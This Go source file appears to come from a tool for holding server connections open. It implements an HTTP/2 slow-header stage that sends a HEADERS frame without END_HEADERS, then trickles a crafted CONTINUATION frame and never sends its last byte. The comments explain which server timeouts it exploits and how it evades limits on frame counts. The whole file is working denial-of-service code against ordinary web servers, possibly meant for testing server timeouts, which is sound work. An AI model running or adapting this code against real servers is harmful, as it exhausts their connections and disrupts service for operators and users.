package attackers

import (
	"errors"
	"strings"

	"golang.org/x/net/http2"
)

// h2Headers parks a connection inside the header block of a request.
//
// Leans on: RFC 9113 section 6.10 (until END_HEADERS nothing but CONTINUATION may
// come on the connection); client_header_timeout, RequestReadTimeout header=.
// Sends: a HEADERS frame without END_HEADERS. Waits for: the server's SETTINGS,
// which are acknowledged.
// Trickle: one CONTINUATION frame without END_HEADERS, never its last byte. Many
// short ones would meet the limits on their number that servers have.
func h2Headers() stage {
	return stage{
		StageInfo: StageInfo{
			Name:         "h2.headers",
			NeedsTLS:     true,
			NeedsHTTP:    true,
			BeforeAuth:   true,
			Modes:        bothModes,
			Rule:         "RFC 9113 section 6.10",
			Sends:        "a HEADERS frame without END_HEADERS",
			WaitsFor:     "the server's SETTINGS, which are acknowledged",
			Trickles:     "a CONTINUATION frame, never its last byte",
			TrickleBytes: len(continuation()) - 1,
		},
		reach: func(c *client) error {
			if err := c.speakH2(); err != nil {
				return err
			}
			if err := c.greetAndAcknowledge(); err != nil {
				return err
			}
			c.step = "send the beginning of the headers"
			text := continuation()
			c.drip = dripPattern(c.rw(), text, len(text)-1)
			c.h2.opened = true
			return errors.Join(c.h2.WriteHeaders(http2.HeadersFrameParam{
				StreamID:      h2Stream,
				BlockFragment: c.hold.Request.h2Block("GET", c.hold.Request.Path, c.hold.Address),
				EndStream:     true,
			}), c.h2.flush())
		},
	}
}

// continuation is a CONTINUATION frame of headTrickle bytes and some: the same
// header over and over, each a literal that is never indexed (RFC 7541 section
// 6.2.3), so that none becomes shorter than the one before.
func continuation() string {
	const name, value = "x-hold", 100
	field := "\x10" + string(rune(len(name))) + name + string(rune(value)) + strings.Repeat("a", value)
	block := strings.Repeat(field, headTrickle/len(field)+1)
	return string([]byte{byte(len(block) >> 16), byte(len(block) >> 8), byte(len(block)),
		byte(http2.FrameContinuation), 0, 0, 0, 0, h2Stream}) + block
}
